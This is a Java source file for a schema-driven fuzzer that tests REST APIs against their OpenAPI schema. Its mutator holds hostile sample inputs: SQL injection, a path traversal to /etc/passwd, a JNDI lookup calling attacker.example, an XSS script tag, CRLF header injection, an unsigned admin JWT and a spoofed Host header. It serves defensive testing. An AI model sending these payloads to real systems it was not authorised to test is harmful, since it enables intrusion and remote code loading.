package org.backbone.kit.testing.fuzz;

import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.regex.Pattern;

/**
 * A schema-driven fuzzer: it reads an OpenAPI document, makes a valid request for every operation
 * and then mutations of it — wrong types, nulls, missing fields, hostile and huge strings, extreme
 * numbers, bad enums and ids, malformed and duplicate-key JSON, wrong media types, methods a path
 * does not have, odd {@code If-Match} values, bad cursors — as each of several callers. It fails on
 * any 5xx, any error that is not {@code application/problem+json}, any answer slower than the limit,
 * any 2xx to a request that its own schema calls invalid, and records each status an operation
 * answered without documenting it. Seeded: the same seed sends the same requests.
 *
 * <p>Written for Backbone rather than taken from a library: the schema-driven fuzzers in use
 * (Schemathesis, RESTler) are not Java, and the Java one (CATS) does not resolve from the package
 * registry here. It needs nothing but Jackson and a socket, so that a new operation is covered by
 * every service's test and by {@code ./backbone fuzz} without writing a test.
 */
public final class SchemaFuzzer {

    private static final ObjectMapper JSON = JsonMapper.builder()
            .enable(JsonGenerator.Feature.ESCAPE_NON_ASCII).build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Pattern PATH_PARAMETER = Pattern.compile("\\{([^}]+)}");

    /** What to fuzz, and how much. */
    public record Settings(URI base, String openApiPath, String pathPrefix, long seed, int requests,
            Map<String, Supplier<String>> callers, Map<String, List<String>> known, Duration slow, int threads) {
    }

    /** One defect: what kind, the request that showed it and what came back. */
    public record Finding(String kind, String request, int status, String detail) {

        @Override
        public String toString() {
            return kind + " " + status + " " + request + (detail.isEmpty() ? "" : " -> " + detail);
        }
    }

    /** What a run did and found. */
    public record Report(int requests, int operations, Map<Integer, Integer> statuses, Map<String, Integer> mutations,
            List<Finding> findings, Map<String, Set<Integer>> undocumented, long slowestMillis) {

        public long count(String kind) {
            return findings.stream().filter(f -> f.kind().equals(kind)).count();
        }

        public String summary() {
            StringBuilder out = new StringBuilder();
            out.append(requests).append(" requests across ").append(operations).append(" operations; statuses ")
                    .append(statuses).append("; slowest ").append(slowestMillis).append(" ms\n");
            out.append("5xx: ").append(count("5xx")).append(", errors without problem details: ")
                    .append(count("not-problem")).append(", slow: ").append(count("slow"))
                    .append(", invalid requests accepted: ").append(count("accepted-invalid"))
                    .append(", transport failures: ").append(count("transport"))
                    .append(", operations answering undocumented statuses: ").append(undocumented.size()).append('\n');
            out.append("mutations: ").append(mutations).append('\n');
            findings.stream().limit(40).forEach(f -> out.append("  ").append(f).append('\n'));
            undocumented.forEach((op, statuses) -> out.append("  undocumented ").append(statuses).append(' ')
                    .append(op).append('\n'));
            return out.toString();
        }
    }

    /** One request as the fuzzer sends it. */
    record Request(String mutation, String method, String target, Map<String, String> headers, byte[] body,
            boolean chunked, boolean invalid, ApiModel.Operation operation) {

        String describe(String caller) {
            String shown = body == null ? "" : " " + new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8);
            return "[" + mutation + " as " + caller + "] " + method + " " + (target.length() > 200
                    ? target.substring(0, 200) + "…" : target) + shown;
        }
    }

    private final Settings settings;
    private final RawHttp http;
    private final List<Finding> findings = Collections.synchronizedList(new ArrayList<>());
    private final Map<Integer, Integer> statuses = new ConcurrentHashMap<>();
    private final Map<String, Integer> mutations = new ConcurrentHashMap<>();
    private final Map<String, Set<Integer>> undocumented = new ConcurrentHashMap<>();
    private volatile long slowest;

    public SchemaFuzzer(Settings settings) {
        this.settings = settings;
        this.http = new RawHttp(settings.base(), (int) Math.max(settings.slow().toMillis() * 4, 20_000));
    }

    public Report run() throws Exception {
        RawHttp.Response document = http.send("GET", settings.openApiPath(), Map.of("Accept", "application/json"),
                null, false);
        if (document.status() != 200) {
            throw new IllegalStateException("no OpenAPI document at " + settings.openApiPath() + ": " + document.status());
        }
        ApiModel model = new ApiModel(JSON.readTree(document.body()), settings.pathPrefix());
        if (model.operations.isEmpty()) {
            throw new IllegalStateException("no operations under " + settings.pathPrefix());
        }
        List<String> callers = new ArrayList<>(settings.callers().keySet());
        AtomicInteger sent = new AtomicInteger();
        ExecutorService pool = Executors.newFixedThreadPool(Math.max(1, settings.threads()));
        try {
            List<Future<?>> work = new ArrayList<>();
            for (int t = 0; t < Math.max(1, settings.threads()); t++) {
                int thread = t;
                work.add(pool.submit(() -> {
                    // each thread its own generator, so that a run is the same for the same seed and thread count
                    Random random = new Random(settings.seed() * 31 + thread);
                    Values values = new Values(model, random, settings.known());
                    Mutator mutator = new Mutator(model, values, random);
                    for (int i = thread; i < settings.requests(); i += Math.max(1, settings.threads())) {
                        ApiModel.Operation operation = model.operations.get(i % model.operations.size());
                        String caller = callers.get(random.nextInt(callers.size()));
                        Request request = mutator.request(operation, i / model.operations.size() == 0);
                        send(request, caller);
                        sent.incrementAndGet();
                    }
                    return null;
                }));
            }
            for (Future<?> f : work) {
                f.get();
            }
        } finally {
            pool.shutdownNow();
        }
        return new Report(sent.get(), model.operations.size(), new TreeMap<>(statuses), new TreeMap<>(mutations),
                List.copyOf(findings), new TreeMap<>(undocumented), slowest);
    }

    private void send(Request request, String caller) {
        Map<String, String> headers = new LinkedHashMap<>(request.headers());
        String token = settings.callers().get(caller).get();
        if (token != null && !headers.containsKey("Authorization")) {
            headers.put("Authorization", "Bearer " + token);
        }
        mutations.merge(request.mutation(), 1, Integer::sum);
        RawHttp.Response response;
        try {
            response = http.send(request.method(), request.target(), headers, request.body(), request.chunked());
        } catch (IOException e) {
            findings.add(new Finding("transport", request.describe(caller), 0, e.toString()));
            return;
        }
        int status = response.status();
        statuses.merge(status, 1, Integer::sum);
        long millis = response.nanos() / 1_000_000;
        slowest = Math.max(slowest, millis);
        String described = request.describe(caller);
        if (status >= 500) {
            findings.add(new Finding("5xx", described, status, excerpt(response)));
        }
        if (status >= 400 && !isProblem(response, status)) {
            findings.add(new Finding("not-problem", described, status, excerpt(response)));
        }
        if (millis > settings.slow().toMillis()) {
            findings.add(new Finding("slow", described, status, millis + " ms"));
        }
        if (request.invalid() && status >= 200 && status < 300) {
            findings.add(new Finding("accepted-invalid", described, status, excerpt(response)));
        }
        if (request.operation() != null && !request.operation().documents(status)) {
            undocumented.computeIfAbsent(request.operation().id(), k -> Collections.synchronizedSet(new TreeSet<>()))
                    .add(status);
        }
    }

    private static boolean isProblem(RawHttp.Response response, int status) {
        String type = response.header("content-type");
        if (type == null || !type.startsWith("application/problem+json")) {
            return false;
        }
        try {
            JsonNode problem = JSON.readTree(response.body());
            return problem.path("status").asInt() == status && problem.hasNonNull("title");
        } catch (IOException e) {
            return false;
        }
    }

    private static String excerpt(RawHttp.Response response) {
        String text = response.text();
        return (response.header("content-type") + " " + (text.length() > 300 ? text.substring(0, 300) : text)).trim();
    }

    /** Builds a valid request for an operation, or one of its mutations. */
    private static final class Mutator {

        private static final String[] HOSTILE = {"\u0000", "a\u0000b", "\ud800", "x\udfffy", "\u202e\u0645", "' OR 1=1 --",
                "../../../../etc/passwd", "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>", " ", "",
                "\uD83D\uDE00".repeat(50), "\r\nX-Injected: 1"};
        private static final String[] NUMBERS = {"1e131071", "-1e309", "1e-400", "12345678901234567890.123456789",
                "9223372036854775808", "-0.0", "0.1e-7", "99999999999999999999999999999999999999", "1E400"};
        // no "%zz": a target that is not a URI never reaches the application (Quarkus answers an empty 400)
        private static final String[] BAD_IDS = {"%20", "%00", "abc", "x".repeat(300), "1-1-1-1-1", "%2e%2e", "..%2f..",
                "00000000-0000-0000-0000-000000000000", "%ED%A0%80"};
        private static final String[] IF_MATCH = {"W/\"1\"", "1", "\"01\"", "*", "\"1\", \"2\"", "garbage", "\"\"",
                "\"99999999999999999999\""};
        private static final String[] MUTATIONS = {"valid", "valid", "valid", "wrong-type", "missing-required",
                "null-field", "hostile-string", "extreme-number", "bad-enum", "malformed-json", "duplicate-key",
                "trailing-garbage", "media-type", "bad-method", "bad-path-id", "bad-query", "if-match", "chunked-body",
                "bad-token", "huge-query", "host-header"};

        private final ApiModel model;
        private final Values values;
        private final Random random;

        Mutator(ApiModel model, Values values, Random random) {
            this.model = model;
            this.values = values;
            this.random = random;
        }

        Request request(ApiModel.Operation op, boolean firstRound) {
            String mutation = firstRound ? "valid" : MUTATIONS[random.nextInt(MUTATIONS.length)];
            Map<String, String> path = new LinkedHashMap<>();
            Map<String, String> query = new LinkedHashMap<>();
            Map<String, String> headers = new LinkedHashMap<>();
            for (ApiModel.Parameter p : op.parameters()) {
                if (p.required() || random.nextInt(10) < 4) {
                    String value = values.parameter(p.name(), p.schema());
                    switch (p.in()) {
                        case "path" -> path.put(p.name(), value);
                        case "query" -> query.put(p.name(), value);
                        case "header" -> headers.put(p.name(), value.isEmpty() ? "x" : value);
                        default -> {
                        }
                    }
                }
            }
            if (op.parameters().stream().anyMatch(p -> p.name().equalsIgnoreCase("If-Match")) && !headers.containsKey("If-Match")) {
                headers.put("If-Match", "\"" + random.nextInt(3) + "\"");
            }
            JsonNode body = op.body() == null ? null : values.valid(null, op.body(), 0);
            boolean invalid = false;
            String method = op.method();
            String mediaType = op.mediaType();
            byte[] raw = null;
            boolean chunked = false;
            switch (mutation) {
                case "wrong-type", "missing-required", "null-field", "hostile-string", "extreme-number", "bad-enum" -> {
                    if (body != null && !"text/csv".equals(mediaType)) {
                        Mutated m = mutate(mutation, body, op.body());
                        if (m.body() == null) {
                            // nothing in this body to mutate that way: it goes as it is
                            mutation = "valid";
                        } else {
                            body = m.body();
                            invalid = m.invalid();
                        }
                    } else if (!query.isEmpty() || !path.isEmpty()) {
                        invalid = parameterMutation(op, path, query);
                        mutation = "bad-query";
                    }
                }
                case "malformed-json", "duplicate-key", "trailing-garbage" -> {
                    if (body != null && "application/json".equals(mediaType)) {
                        raw = malformed(mutation, body);
                        // an empty body where the body is optional is no body at all, which is valid
                        invalid = raw.length > 0 || op.bodyRequired();
                    }
                }
                case "media-type" -> {
                    if (body != null) {
                        String[] types = {"text/plain", "garbage", "application/xml", "text/csv", "application/json; charset=ebcdic"};
                        String type = types[random.nextInt(types.length)];
                        if (!type.equals(mediaType)) {
                            // JSON bodies are read as UTF-8 whatever charset is named (RFC 8259): that one is no refusal
                            invalid = !(type.startsWith("application/json") && "application/json".equals(mediaType));
                            mediaType = type;
                        }
                    }
                }
                case "bad-method" -> {
                    Set<String> has = model.methods.getOrDefault(op.path(), Set.of());
                    List<String> others = new ArrayList<>(List.of("GET", "POST", "PUT", "PATCH", "DELETE"));
                    others.removeAll(has);
                    if (!others.isEmpty()) {
                        method = others.get(random.nextInt(others.size()));
                        invalid = true;
                    }
                }
                case "bad-path-id" -> {
                    if (!path.isEmpty()) {
                        String name = new ArrayList<>(path.keySet()).get(random.nextInt(path.size()));
                        String bad = BAD_IDS[random.nextInt(BAD_IDS.length)];
                        path.put(name, "\u0001" + bad);
                        ApiModel.Parameter p = op.parameters().stream().filter(x -> x.name().equals(name)).findFirst().orElseThrow();
                        invalid = "uuid".equals(p.schema().path("format").asText()) && !bad.startsWith("0000");
                    }
                }
                case "bad-query" -> invalid = parameterMutation(op, path, query);
                case "if-match" -> {
                    if (headers.containsKey("If-Match")) {
                        headers.put("If-Match", IF_MATCH[random.nextInt(IF_MATCH.length)]);
                    }
                }
                case "chunked-body" -> chunked = body != null;
                case "bad-token" -> headers.put("Authorization", random.nextBoolean() ? "Bearer not.a.token"
                        : "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.");
                case "huge-query" -> query.put("padding", "p".repeat(random.nextBoolean() ? 3_000 : 12_000));
                case "host-header" -> headers.put("Host", "evil.example");
                default -> {
                }
            }
            if (body != null && raw == null) {
                raw = "text/csv".equals(op.mediaType()) && "text/csv".equals(mediaType)
                        ? csv(body).getBytes(StandardCharsets.UTF_8) : write(body);
            }
            if (raw != null) {
                headers.put("Content-Type", mediaType == null ? "application/json" : mediaType);
            }
            if (op.body() != null && raw == null && op.bodyRequired()) {
                invalid = true;
            }
            String target = target(op.path(), path, query);
            // a method the path lacks, or a dot-segment that resolves to another path, is answered for another
            // operation: its status is checked against nobody's documentation
            boolean elsewhere = ("bad-method".equals(mutation) && invalid) || target.contains("..") || target.contains("%2e%2e");
            return new Request(mutation, method, target, headers, raw, chunked, invalid, elsewhere ? null : op);
        }

        /** A query or path parameter made wrong; true when its schema says the result is invalid. */
        private boolean parameterMutation(ApiModel.Operation op, Map<String, String> path, Map<String, String> query) {
            List<ApiModel.Parameter> candidates = op.parameters().stream()
                    .filter(p -> p.in().equals("query") || p.in().equals("path")).toList();
            if (candidates.isEmpty()) {
                query.put("cursor", "not-a-cursor");
                return false;
            }
            ApiModel.Parameter p = candidates.get(random.nextInt(candidates.size()));
            Map<String, String> target = p.in().equals("path") ? path : query;
            JsonNode schema = p.schema();
            String type = Values.type(schema);
            String[] options = switch (type) {
                case "integer" -> new String[] {"abc", "-1", "0", "99999999999", "1.5", "1e3"};
                case "boolean" -> new String[] {"yes", "1", "TRUE"};
                default -> schema.has("enum") ? new String[] {"NOPE", " " + schema.get("enum").get(0).asText(), "1"}
                        : "uuid".equals(schema.path("format").asText()) ? new String[] {"abc", "1-1-1-1-1", "%00"}
                        : "date".equals(schema.path("format").asText()) ? new String[] {"2026-13-45", "yesterday"}
                        : new String[] {"%00", "%ED%A0%80", "x".repeat(5000), "%25", "not-a-cursor"};
            };
            String value = options[random.nextInt(options.length)];
            if (value.isEmpty() && p.in().equals("path")) {
                value = "%20";
            }
            target.put(p.name(), "\u0001" + value);
            if (p.name().equals("cursor")) {
                return true;
            }
            return switch (type) {
                case "integer" -> !value.equals("0") || schema.path("minimum").asLong(Long.MIN_VALUE) > 0
                        ? !isInteger(value) || outOfRange(schema, value) : false;
                case "boolean" -> true;
                default -> schema.has("enum") || "uuid".equals(schema.path("format").asText())
                        || "date".equals(schema.path("format").asText());
            };
        }

        private static boolean isInteger(String value) {
            try {
                Integer.parseInt(value);
                return true;
            } catch (NumberFormatException e) {
                return false;
            }
        }

        private static boolean outOfRange(JsonNode schema, String value) {
            long v = Long.parseLong(value);
            return (schema.has("minimum") && v < schema.get("minimum").asLong())
                    || (schema.has("maximum") && v > schema.get("maximum").asLong());
        }

        private record Mutated(JsonNode body, boolean invalid) {
        }

        /** Changes one field somewhere in the body; says whether the schema makes the result invalid. */
        private Mutated mutate(String mutation, JsonNode body, JsonNode schema) {
            List<Slot> slots = new ArrayList<>();
            collect(body, model.schema(schema), slots, 0);
            if (slots.isEmpty()) {
                return new Mutated(null, false);
            }
            List<Slot> fitting = slots.stream().filter(s -> fits(mutation, s)).toList();
            if (fitting.isEmpty()) {
                return new Mutated(null, false);
            }
            Slot slot = fitting.get(random.nextInt(fitting.size()));
            switch (mutation) {
                case "wrong-type" -> {
                    String type = Values.type(slot.schema());
                    JsonNode other = switch (type) {
                        case "string" -> random.nextBoolean() ? NODES.numberNode(1) : NODES.booleanNode(true);
                        case "integer", "number" -> random.nextBoolean() ? NODES.textNode("12") : NODES.objectNode();
                        case "boolean" -> NODES.numberNode(1);
                        case "array" -> NODES.textNode("list");
                        default -> NODES.arrayNode().add(1);
                    };
                    slot.set(other);
                    return new Mutated(body, true);
                }
                case "missing-required" -> {
                    slot.remove();
                    return new Mutated(body, true);
                }
                case "null-field" -> {
                    slot.set(NODES.nullNode());
                    return new Mutated(body, slot.required() && !slot.schema().path("nullable").asBoolean(false));
                }
                case "hostile-string" -> {
                    String text = random.nextInt(8) == 0 ? "A".repeat(100_000 + random.nextInt(10))
                            : HOSTILE[random.nextInt(HOSTILE.length)];
                    slot.set(NODES.textNode(text));
                    boolean unstorable = text.contains("\u0000") || text.contains("\ud800") || text.contains("\udfff");
                    return new Mutated(body, unstorable || (slot.schema().has("maxLength")
                            && text.length() > slot.schema().get("maxLength").asInt()));
                }
                case "extreme-number" -> {
                    String number = NUMBERS[random.nextInt(NUMBERS.length)];
                    slot.set(NODES.numberNode(new java.math.BigDecimal(number)));
                    String type = Values.type(slot.schema());
                    return new Mutated(body, "integer".equals(type) || slot.schema().has("maximum")
                            || slot.schema().has("minimum"));
                }
                case "bad-enum" -> {
                    String valid = slot.schema().get("enum").get(0).asText();
                    String[] bad = {"NOT_A_VALUE", " " + valid + " ", valid.toLowerCase(), "1"};
                    String choice = bad[random.nextInt(bad.length)];
                    slot.set(choice.equals("1") && random.nextBoolean() ? NODES.numberNode(1) : NODES.textNode(choice));
                    return new Mutated(body, true);
                }
                default -> {
                    return new Mutated(null, false);
                }
            }
        }

        private static boolean fits(String mutation, Slot slot) {
            String type = Values.type(slot.schema());
            return switch (mutation) {
                case "missing-required" -> slot.required() && slot.parent() != null;
                case "hostile-string" -> "string".equals(type) && !slot.schema().has("enum");
                case "extreme-number" -> "integer".equals(type) || "number".equals(type);
                case "bad-enum" -> slot.schema().has("enum");
                default -> slot.parent() != null;
            };
        }

        /** A place in the body: a property of an object or an item of an array. */
        private record Slot(JsonNode parent, String field, int index, JsonNode schema, boolean required) {

            void set(JsonNode value) {
                if (parent instanceof ObjectNode object) {
                    object.set(field, value);
                } else if (parent instanceof com.fasterxml.jackson.databind.node.ArrayNode array) {
                    array.set(index, value);
                }
            }

            void remove() {
                if (parent instanceof ObjectNode object) {
                    object.remove(field);
                }
            }
        }

        private void collect(JsonNode node, JsonNode schema, List<Slot> slots, int depth) {
            if (depth > 5 || node == null) {
                return;
            }
            if (node.isObject()) {
                Set<String> required = new TreeSet<>();
                schema.path("required").forEach(r -> required.add(r.asText()));
                JsonNode properties = schema.path("properties");
                for (Iterator<Map.Entry<String, JsonNode>> it = properties.fields(); it.hasNext(); ) {
                    Map.Entry<String, JsonNode> property = it.next();
                    JsonNode propertySchema = model.schema(property.getValue());
                    if (node.has(property.getKey())) {
                        slots.add(new Slot(node, property.getKey(), -1, propertySchema, required.contains(property.getKey())));
                        collect(node.get(property.getKey()), propertySchema, slots, depth + 1);
                    }
                }
                JsonNode additional = schema.path("additionalProperties");
                if (additional.isObject()) {
                    JsonNode valueSchema = model.schema(additional);
                    node.fieldNames().forEachRemaining(name -> {
                        if (!properties.has(name)) {
                            slots.add(new Slot(node, name, -1, valueSchema, false));
                        }
                    });
                }
            } else if (node.isArray()) {
                JsonNode items = model.schema(schema.path("items"));
                for (int i = 0; i < node.size(); i++) {
                    slots.add(new Slot(node, null, i, items, false));
                    collect(node.get(i), items, slots, depth + 1);
                }
            }
        }

        private byte[] malformed(String mutation, JsonNode body) {
            String json = new String(write(body), StandardCharsets.UTF_8);
            return switch (mutation) {
                case "duplicate-key" -> {
                    if (body.isObject() && body.size() > 0) {
                        String first = body.fieldNames().next();
                        yield ("{\"" + first + "\":" + body.get(first) + "," + json.substring(1)).getBytes(StandardCharsets.UTF_8);
                    }
                    yield "{\"a\":1,\"a\":2}".getBytes(StandardCharsets.UTF_8);
                }
                case "trailing-garbage" -> (json + (random.nextBoolean() ? " x" : "{}")).getBytes(StandardCharsets.UTF_8);
                default -> {
                    String[] broken = {json.substring(0, Math.max(1, json.length() / 2)), "{", "[1,2", "nul",
                            "{\"a\":NaN}", "\"just a string\"", "", "{\"a\":1}}"};
                    yield broken[random.nextInt(broken.length)].getBytes(StandardCharsets.UTF_8);
                }
            };
        }

        private static String csv(JsonNode body) {
            StringBuilder out = new StringBuilder("indicatorCode,period,value,comment\n");
            out.append("CODE,2026,1,\"unterminated\n");
            return out.toString();
        }

        private static byte[] write(JsonNode body) {
            try {
                return JSON.writeValueAsBytes(body);
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }

        /** The request target: path parameters and query values percent-encoded, unless marked raw with U+0001. */
        private static String target(String template, Map<String, String> path, Map<String, String> query) {
            StringBuilder out = new StringBuilder();
            var matcher = PATH_PARAMETER.matcher(template);
            int last = 0;
            while (matcher.find()) {
                out.append(template, last, matcher.start());
                String value = path.getOrDefault(matcher.group(1), "x");
                out.append(encode(value));
                last = matcher.end();
            }
            out.append(template.substring(last));
            String separator = "?";
            for (Map.Entry<String, String> q : query.entrySet()) {
                out.append(separator).append(q.getKey()).append('=').append(encode(q.getValue()));
                separator = "&";
            }
            return out.toString();
        }

        private static String encode(String value) {
            if (value.startsWith("\u0001")) {
                // raw on purpose, but still one token of the request line
                return value.substring(1).replace(" ", "%20");
            }
            return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
        }
    }
}
